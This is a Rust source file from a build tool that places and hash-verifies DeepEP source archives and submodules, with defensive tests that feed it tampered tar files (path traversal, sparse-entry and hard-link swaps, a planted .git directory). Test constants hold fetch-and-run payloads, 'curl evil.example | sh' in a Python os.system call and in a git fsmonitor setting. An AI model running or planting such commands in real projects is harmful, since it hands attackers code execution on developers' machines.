//! The DeepEP source: where it comes from (the lock's archive in the fetch cache, or a
//! `--source` override), a private copy to build in, and what it says about itself (the
//! API it implements, the RDC fix), read from the real files at build time.

use std::fs;
use std::path::{Path, PathBuf};

use anyhow::{Context, Result, bail};
use commstack_stack::manifest::DeepEpApi;
use commstack_stack::rules;
use serde::{Deserialize, Serialize};

/// One DeepEP source tree or archive, with its tree hash (commstack_fetch::tree).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct SourceInput {
    /// A directory, or a `.tar.gz` / `.tgz` / `.tar` archive.
    pub path: PathBuf,
    pub tree_sha256: String,
    /// The git revision the lock names for it.
    pub rev: String,
    /// `locked` when the tree hash is the lock's, else what replaced it.
    pub provenance: String,
    /// The archive's own sha256 where one is known (the cache's record of the archive a
    /// tree-pinned source was fetched as, or the file given): recorded in the build report.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub sha256: Option<String>,
    /// The locked submodules (`[[deepep.submodule]]`), each unpacked into its path after
    /// the source is placed.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub submodules: Vec<SubmoduleInput>,
}

/// One submodule's archive, for its path in the DeepEP tree.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct SubmoduleInput {
    /// Relative to the DeepEP tree (`third-party/fmt`).
    pub path: String,
    /// The archive (in the fetch cache).
    pub archive: PathBuf,
    pub tree_sha256: String,
    pub rev: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub sha256: Option<String>,
}

impl SourceInput {
    /// A user-given directory or archive: hashed here, compared with the lock's tree hash.
    pub fn from_path(path: &Path, locked_tree: Option<&str>, rev: &str) -> Result<SourceInput> {
        let path = path
            .canonicalize()
            .with_context(|| format!("no DeepEP source at {}", path.display()))?;
        let name = path
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        let tree = commstack_fetch::tree::tree_sha256(&path, &name)
            .with_context(|| format!("cannot hash the DeepEP source {}", path.display()))?;
        let sha256 = match path.is_file() {
            true => Some(commstack_digest::sha256_file(&path)?),
            false => None,
        };
        let provenance = match locked_tree {
            Some(t) if t == tree => "locked".to_string(),
            Some(t) => format!("OVERRIDE: tree {tree} is not the locked {t}"),
            None => format!("OVERRIDE: tree {tree}; the lock pins no tree"),
        };
        Ok(SourceInput {
            path,
            tree_sha256: tree,
            rev: rev.to_string(),
            provenance,
            sha256,
            submodules: Vec::new(),
        })
    }

    pub fn is_locked(&self) -> bool {
        self.provenance == "locked"
    }

    /// Copy (directory, without `.git`) or unpack (archive, through commstack-archive,
    /// without `.git`) into `dest`, which must not exist, and refuse it, leaving nothing,
    /// unless the tree written hashes to [`SourceInput::tree_sha256`]: whatever was hashed
    /// before, the tree built from is checked. An archive's single top directory
    /// (GitHub's, `git archive --prefix`'s) is dropped by the rule the tree hash uses.
    ///
    /// Then each submodule is unpacked into its path, refused unless its tree is the
    /// locked one, and every path the tree's `.gitmodules` lists must be filled (by the
    /// tree itself or a submodule): a git archive leaves them empty. Nothing is left in
    /// `dest` after a failure.
    pub fn materialize(&self, dest: &Path) -> Result<()> {
        commstack_fetch::tree::place_verified(
            &self.path,
            dest,
            commstack_fetch::tree::Strip::TopDirIfSingle,
            &self.tree_sha256,
        )
        .with_context(|| format!("cannot place the DeepEP source {}", self.path.display()))?;
        let filled = self
            .fill_submodules(dest)
            .and_then(|()| check_gitmodules(dest));
        if filled.is_err() {
            let _ = fs::remove_dir_all(dest);
        }
        filled
    }

    fn fill_submodules(&self, dest: &Path) -> Result<()> {
        for sub in &self.submodules {
            let target = dest.join(&sub.path);
            if target.is_dir() {
                let empty = fs::read_dir(&target)?.next().is_none();
                if !empty {
                    bail!(
                        "the DeepEP source {} already has files at {}, where the locked submodule {} ({}) goes: refused, nothing is replaced",
                        self.path.display(),
                        sub.path,
                        sub.path,
                        &sub.rev[..sub.rev.len().min(12)]
                    );
                }
                fs::remove_dir(&target)?;
            }
            if let Some(parent) = target.parent() {
                fs::create_dir_all(parent)?;
            }
            commstack_fetch::tree::unpack_verified(
                &sub.archive,
                &target,
                commstack_fetch::tree::Strip::TopDirIfSingle,
                &sub.tree_sha256,
            )
            .with_context(|| {
                format!(
                    "cannot place DeepEP's submodule {} from {}",
                    sub.path,
                    sub.archive.display()
                )
            })?;
        }
        Ok(())
    }
}

/// Every path `src/.gitmodules` lists holds something: a git archive of a commit (GitHub's
/// too) leaves a submodule's path empty, and the build would fail far from the cause.
pub fn check_gitmodules(src: &Path) -> Result<()> {
    let file = src.join(".gitmodules");
    let text = match fs::read_to_string(&file) {
        Ok(text) => text,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(()),
        Err(e) => return Err(e).with_context(|| format!("cannot read {}", file.display())),
    };
    let listed = commstack_stack::gitmodules::parse(&text)
        .map_err(|e| anyhow::anyhow!("{}: {e}", file.display()))?;
    for sub in listed {
        let dir = src.join(&sub.path);
        let empty = match fs::read_dir(&dir) {
            Ok(mut entries) => entries.next().is_none(),
            Err(_) => true,
        };
        if empty {
            bail!(
                "DeepEP's .gitmodules lists the submodule {} ({}), and its path is empty in this source (a git archive \
                 has no submodule contents) and not declared: add to the stack file\n[[deepep.submodule]]\npath = \"{}\"\n\
                 repo = \"{}\"\nrev = \"<the commit DeepEP's gitlink names>\"\nthen run `cargo xtask lock` \
                 (docs/sources.md); with --source, give a tree with its submodules checked out",
                sub.path,
                sub.url,
                sub.path,
                sub.url.trim_end_matches(".git")
            );
        }
    }
    Ok(())
}

/// The API a DeepEP tree implements, from its layout: V1 has `csrc/deep_ep.cpp` and
/// builds `deep_ep_cpp`; V2 has `deep_ep/utils/find_pkgs.py` and builds `deep_ep._C`.
pub fn detect_api(src: &Path) -> Result<DeepEpApi> {
    let v1 = src.join("csrc/deep_ep.cpp").is_file();
    let v2 = src.join("deep_ep/utils/find_pkgs.py").is_file();
    match (v1, v2) {
        (true, false) => Ok(DeepEpApi::V1),
        (false, true) => Ok(DeepEpApi::V2),
        _ => bail!(
            "{} does not look like DeepEP: expected csrc/deep_ep.cpp (V1) or deep_ep/utils/find_pkgs.py (V2) and a setup.py",
            src.display()
        ),
    }
}

/// V1 against NVSHMEM >= 3.3.20 needs the RDC fix (DeepEP 29d31c0): decided from the real
/// `csrc/kernels/configs.cuh` by [`commstack_stack::rules::deepep_v1_has_rdc_fix`].
/// Returns whether the fix is present; errors when it is needed and absent, unless the
/// rule is allowed.
pub fn check_rdc_fix(src: &Path, nvshmem_version: Option<&str>, allowed: bool) -> Result<bool> {
    let path = src.join("csrc/kernels/configs.cuh");
    let text =
        fs::read_to_string(&path).with_context(|| format!("cannot read {}", path.display()))?;
    let has_fix = rules::deepep_v1_has_rdc_fix(&text);
    // An unreadable version counts as one that needs the fix, as the lock's rule does.
    let version = nvshmem_version.and_then(|v| v.parse::<pep440_rs::Version>().ok());
    if rules::nvshmem_needs_rdc_fix(version.as_ref()) && !has_fix && !allowed {
        bail!(
            "{} [rule deepep-v1-rdc-fix]. {}",
            rules::missing_rdc_fix(&path.display().to_string(), version.as_ref()),
            capitalized(&rules::rdc_fix_ways_out())
        );
    }
    Ok(has_fix)
}

/// A rule's sentence, capitalized to start one of its own.
fn capitalized(s: &str) -> String {
    let mut chars = s.chars();
    chars
        .next()
        .map_or_else(String::new, |c| c.to_uppercase().chain(chars).collect())
}

/// The version setup.py will write (`1.2.1` for V1 567632d), for messages.
pub fn declared_version(src: &Path) -> Option<String> {
    let re =
        regex::Regex::new(r#"(?m)(?:version\s*=\s*|__version__\s*=\s*)['"]([0-9][^'"+]*)['"]"#)
            .expect("valid regex");
    for file in ["setup.py", "deep_ep/__init__.py"] {
        if let Ok(text) = fs::read_to_string(src.join(file))
            && let Some(c) = re.captures(&text)
        {
            return Some(c[1].to_string());
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs::File;

    fn tar_gz(dir: &Path, entries: &[(&str, &[u8])]) -> PathBuf {
        let path = dir.join("src.tar.gz");
        let file = File::create(&path).unwrap();
        let mut b = tar::Builder::new(flate2::write::GzEncoder::new(
            file,
            flate2::Compression::fast(),
        ));
        for (name, bytes) in entries {
            let mut h = tar::Header::new_gnu();
            h.set_size(bytes.len() as u64);
            h.set_mode(0o644);
            h.set_cksum();
            b.append_data(&mut h, name, *bytes).unwrap();
        }
        b.into_inner().unwrap().finish().unwrap();
        path
    }

    #[test]
    fn archives_unpack_without_their_top_directory_and_hash_like_the_tree() {
        let d = tempfile::tempdir().unwrap();
        let a = tar_gz(
            d.path(),
            &[
                ("DeepEP-567632d/setup.py", b"version='1.2.1'\n"),
                ("DeepEP-567632d/csrc/deep_ep.cpp", b"int x;\n"),
            ],
        );
        let out = d.path().join("out");
        let from_archive = SourceInput::from_path(&a, None, "567632d").unwrap();
        from_archive.materialize(&out).unwrap();
        assert!(out.join("setup.py").is_file() && out.join("csrc/deep_ep.cpp").is_file());
        assert_eq!(detect_api(&out).unwrap(), DeepEpApi::V1);
        assert_eq!(declared_version(&out).as_deref(), Some("1.2.1"));
        // The tree hash of the archive and of what it unpacked to agree (so --source
        // accepts either).
        let from_dir =
            SourceInput::from_path(&out, Some(&from_archive.tree_sha256), "567632d").unwrap();
        assert!(from_dir.is_locked());
        assert!(!from_archive.is_locked() && from_archive.provenance.starts_with("OVERRIDE"));
    }

    #[test]
    fn entries_leaving_the_tree_are_refused() {
        let d = tempfile::tempdir().unwrap();
        // tar::Builder refuses `..` paths itself; write the header name by hand.
        let path = d.path().join("evil.tar");
        let mut b = tar::Builder::new(File::create(&path).unwrap());
        let mut h = tar::Header::new_gnu();
        h.as_gnu_mut().unwrap().name[..9].copy_from_slice(b"../x.txt\0");
        h.set_size(1);
        h.set_mode(0o644);
        h.set_cksum();
        b.append(&h, &b"x"[..]).unwrap();
        b.finish().unwrap();
        // Refused as soon as it is hashed: an archive the unpacker refuses has no tree.
        let err = format!(
            "{:#}",
            SourceInput::from_path(&path, None, "567632d").unwrap_err()
        );
        assert!(err.contains("leaves") && err.contains("../x.txt"), "{err}");
        assert!(!d.path().join("out").exists() && !d.path().join("x.txt").exists());
    }

    const GOOD: &[u8] = b"from setuptools import setup\nsetup(name='deep_ep')\n";
    const EVIL: &[u8] = b"import os\nos.system('curl evil.example | sh')\n";

    /// A tar.gz of raw entries (kind, path, data or link target); a GNU sparse entry holds
    /// one region, its whole data.
    fn raw_tar_gz(dir: &Path, name: &str, entries: &[(tar::EntryType, &str, &[u8])]) -> PathBuf {
        let octal = |n: u64| {
            let mut out = [0u8; 12];
            out[..11].copy_from_slice(format!("{n:011o}").as_bytes());
            out
        };
        let mut b = tar::Builder::new(Vec::new());
        for (kind, path, payload) in entries {
            let mut h = tar::Header::new_gnu();
            h.set_path(path).unwrap();
            h.set_mode(0o644);
            h.set_entry_type(*kind);
            let data: &[u8] = match kind {
                tar::EntryType::Link => {
                    h.set_link_name(std::str::from_utf8(payload).unwrap())
                        .unwrap();
                    b""
                }
                _ => payload,
            };
            h.set_size(data.len() as u64);
            if *kind == tar::EntryType::GNUSparse {
                let gnu = h.as_gnu_mut().unwrap();
                gnu.sparse[0].offset = octal(0);
                gnu.sparse[0].numbytes = octal(data.len() as u64);
                gnu.realsize = octal(data.len() as u64);
            }
            h.set_cksum();
            b.append(&h, data).unwrap();
        }
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        std::io::Write::write_all(&mut gz, &b.into_inner().unwrap()).unwrap();
        let path = dir.join(name);
        fs::write(&path, gz.finish().unwrap()).unwrap();
        path
    }

    /// The locked DeepEP source, as the lock and the fetch cache give it: its tree hash
    /// from the clean archive.
    fn locked_source(dir: &Path) -> SourceInput {
        use tar::EntryType::Regular;
        let clean = raw_tar_gz(
            dir,
            "clean.tar.gz",
            &[
                (Regular, "DeepEP-567632d/csrc/deep_ep.cpp", b"int x;\n"),
                (Regular, "DeepEP-567632d/tools/helper.py", EVIL),
                (Regular, "DeepEP-567632d/setup.py", GOOD),
            ],
        );
        let locked = SourceInput::from_path(&clean, None, "567632d").unwrap();
        let mut src = SourceInput::from_path(&clean, Some(&locked.tree_sha256), "567632d").unwrap();
        assert!(src.is_locked());
        src.path = dir.join("DeepEP-567632d.tar.gz");
        src
    }

    /// The step unpacks what the cache holds and checks the tree it wrote: an archive that
    /// hashed to the locked tree by another reading (a sparse entry replacing setup.py, a
    /// hard link to a file replaced later) is refused after unpacking, and nothing is left.
    #[test]
    fn a_source_that_unpacks_to_another_tree_is_refused_after_unpacking() {
        use tar::EntryType::{GNUSparse, Link, Regular};
        let sparse: &[(tar::EntryType, &str, &[u8])] = &[
            (Regular, "DeepEP-567632d/csrc/deep_ep.cpp", b"int x;\n"),
            (Regular, "DeepEP-567632d/tools/helper.py", EVIL),
            (Regular, "DeepEP-567632d/setup.py", GOOD),
            (GNUSparse, "DeepEP-567632d/setup.py", EVIL),
        ];
        let hard: &[(tar::EntryType, &str, &[u8])] = &[
            (Regular, "DeepEP-567632d/csrc/deep_ep.cpp", b"int x;\n"),
            (Regular, "DeepEP-567632d/tools/helper.py", GOOD),
            (
                Link,
                "DeepEP-567632d/setup.py",
                b"DeepEP-567632d/tools/helper.py",
            ),
            (Regular, "DeepEP-567632d/tools/helper.py", EVIL),
        ];
        for entries in [sparse, hard] {
            let d = tempfile::tempdir().unwrap();
            let src = locked_source(d.path());
            raw_tar_gz(d.path(), "DeepEP-567632d.tar.gz", entries);
            let out = d.path().join("build/src");
            let result = src.materialize(&out);
            let written = fs::read(out.join("setup.py")).ok();
            assert!(
                result.is_err(),
                "unpacked, setup.py = {:?}",
                written.map(|w| String::from_utf8_lossy(&w).into_owned())
            );
            let err = format!("{:#}", result.unwrap_err());
            assert!(err.contains(&src.tree_sha256), "{err}");
            assert!(!out.exists());
            assert_eq!(fs::read_dir(d.path().join("build")).unwrap().count(), 0);
        }
    }

    /// `.git` is not part of the tree: never written, beside the top directory (which must
    /// still be stripped) or inside it.
    #[test]
    fn a_source_never_gets_a_git_directory() {
        use tar::EntryType::Regular;
        let config: &[u8] = b"[core]\n\tfsmonitor = curl evil.example | sh\n";
        for git in [".git/config", "DeepEP-567632d/.git/config"] {
            let d = tempfile::tempdir().unwrap();
            let src = locked_source(d.path());
            raw_tar_gz(
                d.path(),
                "DeepEP-567632d.tar.gz",
                &[
                    (Regular, "DeepEP-567632d/csrc/deep_ep.cpp", b"int x;\n"),
                    (Regular, "DeepEP-567632d/tools/helper.py", EVIL),
                    (Regular, "DeepEP-567632d/setup.py", GOOD),
                    (Regular, git, config),
                ],
            );
            let out = d.path().join("src");
            src.materialize(&out).unwrap();
            assert_eq!(fs::read(out.join("setup.py")).unwrap(), GOOD, "{git}");
            let gits = walkdir::WalkDir::new(&out)
                .into_iter()
                .filter(|e| e.as_ref().unwrap().file_name() == ".git")
                .count();
            assert_eq!(gits, 0, "{git} was written");
        }
    }

    /// DeepEP with `.gitmodules` naming third-party/fmt, left empty as a git archive
    /// leaves it, and fmt's own archive.
    fn with_submodule(dir: &Path) -> (SourceInput, SubmoduleInput) {
        use tar::EntryType::{Directory, Regular};
        let gitmodules: &[u8] =
            b"[submodule \"third-party/fmt\"]\n\tpath = third-party/fmt\n\turl = https://github.com/fmtlib/fmt.git\n";
        let deepep = raw_tar_gz(
            dir,
            "DeepEP-dd758ca.tar.gz",
            &[
                (Regular, "DeepEP-dd758ca/setup.py", GOOD),
                (Regular, "DeepEP-dd758ca/.gitmodules", gitmodules),
                (Directory, "DeepEP-dd758ca/third-party/fmt/", b""),
            ],
        );
        let fmt = raw_tar_gz(
            dir,
            "fmt-a4c7e17.tar.gz",
            &[(Regular, "fmt-a4c7e17/include/fmt/core.h", b"#pragma once\n")],
        );
        let fmt_tree = commstack_fetch::tree::tree_sha256(&fmt, "fmt.tar.gz").unwrap();
        let src = SourceInput::from_path(&deepep, None, "dd758ca").unwrap();
        let sub = SubmoduleInput {
            path: "third-party/fmt".into(),
            archive: fmt,
            tree_sha256: fmt_tree,
            rev: "a4c7e17133ee9cb6a2f45545f6e974dd3c393efa".into(),
            sha256: None,
        };
        (src, sub)
    }

    #[test]
    fn a_declared_submodule_fills_its_empty_path() {
        let d = tempfile::tempdir().unwrap();
        let (mut src, sub) = with_submodule(d.path());
        src.submodules.push(sub);
        let out = d.path().join("src");
        src.materialize(&out).unwrap();
        assert_eq!(
            fs::read(out.join("third-party/fmt/include/fmt/core.h")).unwrap(),
            b"#pragma once\n"
        );
        assert_eq!(fs::read(out.join("setup.py")).unwrap(), GOOD);
    }

    #[test]
    fn an_undeclared_or_changed_submodule_is_refused_leaving_nothing() {
        let d = tempfile::tempdir().unwrap();
        let (src, mut sub) = with_submodule(d.path());
        // Undeclared: the empty path is named, with what to add.
        let out = d.path().join("src");
        let err = format!("{:#}", src.materialize(&out).unwrap_err());
        assert!(
            err.contains("third-party/fmt") && err.contains("[[deepep.submodule]]"),
            "{err}"
        );
        assert!(!out.exists());
        // Declared, but its archive is not the locked tree.
        sub.tree_sha256 = format!("sha256:{}", "0".repeat(64));
        let mut src = src;
        src.submodules.push(sub);
        let err = format!("{:#}", src.materialize(&out).unwrap_err());
        assert!(
            err.contains("third-party/fmt") && err.contains("not the expected"),
            "{err}"
        );
        assert!(!out.exists());
    }

    #[test]
    fn rdc_fix_is_required_from_nvshmem_3_3_20_on() {
        let d = tempfile::tempdir().unwrap();
        fs::create_dir_all(d.path().join("csrc/kernels")).unwrap();
        let cfg = d.path().join("csrc/kernels/configs.cuh");
        fs::write(
            &cfg,
            "#pragma once\n#ifndef DISABLE_NVSHMEM\n#include <nvshmem.h>\n#endif\n",
        )
        .unwrap();
        let err = check_rdc_fix(d.path(), Some("3.4.5"), false)
            .unwrap_err()
            .to_string();
        assert!(
            err.contains("multiple definition of nvshmemi_ibgda_device_state_d")
                && err.contains("567632d"),
            "{err}"
        );
        assert!(!check_rdc_fix(d.path(), Some("3.3.19"), false).unwrap());
        assert!(!check_rdc_fix(d.path(), Some("3.4.5"), true).unwrap());
        fs::write(&cfg, "#pragma once\n#ifndef DISABLE_NVSHMEM\n#ifndef __CUDACC_RDC__\n#define __CUDACC_RDC__\n#endif\n#endif\n").unwrap();
        assert!(check_rdc_fix(d.path(), Some("3.4.5"), false).unwrap());
    }

    /// The real DeepEP dd758ca and its fmt submodule (a4c7e171), from a mirror directory
    /// holding their git archives (../shared/mirror on this project's machines).
    #[test]
    #[ignore = "needs COMMSTACK_REAL_MIRROR=DIR with DeepEP-dd758caf….tar.gz and fmt-a4c7e171….tar.gz"]
    fn real_dd758ca_gets_its_fmt_submodule() {
        let dir = PathBuf::from(std::env::var("COMMSTACK_REAL_MIRROR").unwrap());
        let deepep = dir.join("DeepEP-dd758caf451848bd150e1046af3d0a73e5fff38d.tar.gz");
        let fmt = dir.join("fmt-a4c7e17133ee9cb6a2f45545f6e974dd3c393efa.tar.gz");
        let d = tempfile::tempdir().unwrap();
        let mut src = SourceInput::from_path(&deepep, None, "dd758ca").unwrap();
        let out = d.path().join("bare");
        let err = format!("{:#}", src.materialize(&out).unwrap_err());
        assert!(err.contains("third-party/fmt"), "{err}");
        src.submodules.push(SubmoduleInput {
            path: "third-party/fmt".into(),
            tree_sha256: commstack_fetch::tree::tree_sha256(&fmt, "fmt.tar.gz").unwrap(),
            archive: fmt,
            rev: "a4c7e17133ee9cb6a2f45545f6e974dd3c393efa".into(),
            sha256: None,
        });
        let out = d.path().join("src");
        src.materialize(&out).unwrap();
        assert_eq!(detect_api(&out).unwrap(), DeepEpApi::V2);
        assert!(out.join("third-party/fmt/include/fmt/format.h").is_file());
    }

    /// The real DeepEP 567632d, when its archive is at hand (`git archive` of the mirror).
    #[test]
    #[ignore = "needs scratch/src/DeepEP-567632dd….tar.gz (git --git-dir=<mirror> archive --prefix=DeepEP-<rev>/ 567632d | gzip)"]
    fn real_567632d_is_v1_with_the_rdc_fix_and_its_locked_tree() {
        let archive = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../../scratch/src/DeepEP-567632dd59810d77b3cc05553df953cc0f779799.tar.gz");
        let known = commstack_stack::known::deepep_rev("567632d").unwrap();
        let src = SourceInput::from_path(&archive, known.tree.as_deref(), &known.rev).unwrap();
        assert!(src.is_locked(), "{}", src.provenance);
        let d = tempfile::tempdir().unwrap();
        let out = d.path().join("src");
        src.materialize(&out).unwrap();
        assert_eq!(detect_api(&out).unwrap(), DeepEpApi::V1);
        assert!(check_rdc_fix(&out, Some("3.4.5"), false).unwrap());
        assert_eq!(declared_version(&out).as_deref(), Some("1.2.1"));
    }
}
